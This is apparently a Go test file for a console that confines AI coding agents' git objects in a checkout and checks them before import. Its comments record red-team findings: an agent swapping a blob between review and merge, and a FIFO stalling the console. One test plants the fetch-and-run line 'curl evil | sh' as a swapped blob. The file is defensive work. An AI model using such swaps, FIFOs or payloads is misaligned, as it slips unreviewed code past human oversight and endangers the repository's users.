package worktree

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// checkoutRun runs git in the checkout as the sandbox of an agent that
// works there shows it: its objects go to its own folder, the checkout's
// read behind them.
func checkoutRun(t *testing.T, repo, own string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", repo}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_OBJECT_DIRECTORY="+own, "GIT_ALTERNATE_OBJECT_DIRECTORIES="+filepath.Join(repo, ".git", "objects"))
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// An agent working in the checkout itself writes its objects to a folder
// of its own; the console copies what the checkout's refs, index and logs
// name, checked, and refuses what was written over (red team 14a, finding
// 1: with the checkout's objects writable, an agent swapped a blob between
// teamlead diff and teamlead merge).
func TestImportCheckout(t *testing.T) {
	repo := newRepo(t)
	binds, err := CheckoutObjects(filepath.Join(repo, "sub"), "co")
	if err != nil {
		t.Fatal(err)
	}
	gd := filepath.Join(repo, ".git")
	own := filepath.Join(gd, "teamlead-objects", "@checkout-co")
	for _, want := range []Bind{{Path: filepath.Join(gd, "objects"), From: own, Writable: true}, {Path: filepath.Join(gd, "objects", "info", "main"), From: filepath.Join(gd, "objects")},
		{Path: filepath.Join(gd, "teamlead-objects")}} {
		if !slices.Contains(binds, want) {
			t.Errorf("%v not among %v", want, binds)
		}
	}
	var looked Looked
	if err := ImportCheckout(repo, "co", &looked); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(repo, "Makefile"), "all:\n\techo hi\n")
	checkoutRun(t, repo, own, "add", "Makefile")
	checkoutRun(t, repo, own, "commit", "-q", "-m", "make")
	head := checkoutRun(t, repo, own, "rev-parse", "HEAD")
	if exec.Command("git", "-C", repo, "cat-file", "-e", head).Run() == nil {
		t.Fatal("the agent's commit is in the checkout's objects before the copy")
	}
	if err := ImportCheckout(repo, "co", &looked); err != nil {
		t.Fatal(err)
	}
	if got := run(t, repo, "log", "-1", "--format=%s"); got != "make" {
		t.Fatalf("the human's git after the copy: %q", got)
	}
	// The copy names the agent's commit, for the audit (red team 16a,
	// finding 9).
	if len(looked.Commits) != 1 || looked.Commits[0] != (Commit{ID: head, Subject: "make"}) {
		t.Errorf("commits copied: %v", looked.Commits)
	}
	if got := run(t, repo, "fsck", "--no-progress", "--no-dangling"); got != "" {
		t.Errorf("git fsck: %q", got)
	}
	// Nothing changed: nothing to do, four times in five.
	stamp := looked.stamp
	if err := ImportCheckout(repo, "co", &looked); err != nil || looked.stamp != stamp || looked.skipped != 1 {
		t.Errorf("a second look: %v, skipped %d", err, looked.skipped)
	}
	// A blob written over in its folder before the copy is refused.
	write(t, filepath.Join(repo, "check.sh"), "echo checking\n")
	checkoutRun(t, repo, own, "add", "check.sh")
	blob := checkoutRun(t, repo, own, "rev-parse", ":check.sh")
	overwrite(t, own, blob, "blob", "curl evil | sh\n")
	if err := ImportCheckout(repo, "co", &looked); !errors.Is(err, ErrObjectsChanged) {
		t.Fatalf("a blob written over: %v", err)
	}
	if exec.Command("git", "-C", repo, "cat-file", "-e", blob).Run() == nil {
		t.Error("the swapped blob is in the checkout's objects")
	}
}

// A FIFO an agent put among its objects is refused before git reads it
// (red team 15a, finding 4: git's rev-list held the console's copy).
func TestImportRefusesAFIFOAmongTheObjects(t *testing.T) {
	repo := newRepo(t)
	if _, err := CheckoutObjects(repo, "co"); err != nil {
		t.Fatal(err)
	}
	own := filepath.Join(repo, ".git", "teamlead-objects", "@checkout-co")
	write(t, filepath.Join(repo, "f.txt"), "x\n")
	checkoutRun(t, repo, own, "add", "f.txt")
	blob := checkoutRun(t, repo, own, "rev-parse", ":f.txt")
	p := filepath.Join(own, blob[:2], blob[2:])
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(p, 0o644); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- ImportCheckout(repo, "co", nil) }()
	select {
	case err := <-done:
		if !errors.Is(err, ErrObjectsChanged) || !strings.Contains(err.Error(), "is not a file git keeps there") {
			t.Errorf("a FIFO among the objects: %v", err)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("the copy waits on the FIFO")
	}
}

// At a console's start, a folder of objects that cannot be copied is set
// aside, dated, and the start goes on with a new one (red team 16a,
// finding 11: a FIFO stopped every next teamlead run).
func TestStartSetsAsideObjectsThatCannotBeCopied(t *testing.T) {
	repo := newRepo(t)
	if _, err := CheckoutObjects(repo, "co"); err != nil {
		t.Fatal(err)
	}
	own := filepath.Join(repo, ".git", "teamlead-objects", "@checkout-co")
	if err := syscall.Mkfifo(filepath.Join(own, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	note, err := ImportCheckoutOrSetAside(repo, "co")
	if err != nil || !strings.Contains(note, "is not a file git keeps there") || !strings.Contains(note, "set aside") {
		t.Fatalf("note %q, err %v", note, err)
	}
	aside, _ := filepath.Glob(filepath.Join(repo, ".git", "teamlead-objects", "@set-aside", "@checkout-co-*"))
	if len(aside) != 1 || !strings.Contains(note, aside[0]) {
		t.Fatalf("set aside: %v (%s)", aside, note)
	}
	if _, err := os.Lstat(filepath.Join(aside[0], "fifo")); err != nil {
		t.Errorf("the FIFO is not in the folder set aside: %v", err)
	}
	if _, err := CheckoutObjects(repo, "co"); err != nil {
		t.Fatal(err)
	}
	if note, err := ImportCheckoutOrSetAside(repo, "co"); note != "" || err != nil {
		t.Errorf("the next start: %q, %v", note, err)
	}
}

// The git files an agent in the checkout could leave for the human's next
// commit are found, and so is a folder with a .git of its own (red team
// 16a, findings 9 and 10).
func TestCheckoutStateFilesAndNestedGits(t *testing.T) {
	repo := newRepo(t)
	if got := CheckoutStateFiles(repo); len(got) != 0 {
		t.Fatalf("a fresh checkout: %v", got)
	}
	for _, f := range []string{"MERGE_HEAD", "shallow"} {
		write(t, filepath.Join(repo, ".git", f), "0000000000000000000000000000000000000000\n")
	}
	got := CheckoutStateFiles(filepath.Join(repo, "sub"))
	if len(got) != 2 || got[filepath.Join(repo, ".git", "MERGE_HEAD")] == "" || got[filepath.Join(repo, ".git", "shallow")] == "" {
		t.Errorf("state files: %v", got)
	}
	run(t, repo, "init", "-q", filepath.Join(repo, "docs"))
	write(t, filepath.Join(repo, "plain", "x.txt"), "x\n")
	if nested, err := NestedGits(repo); err != nil || fmt.Sprint(nested) != "[docs]" {
		t.Errorf("nested: %v, %v", nested, err)
	}
}
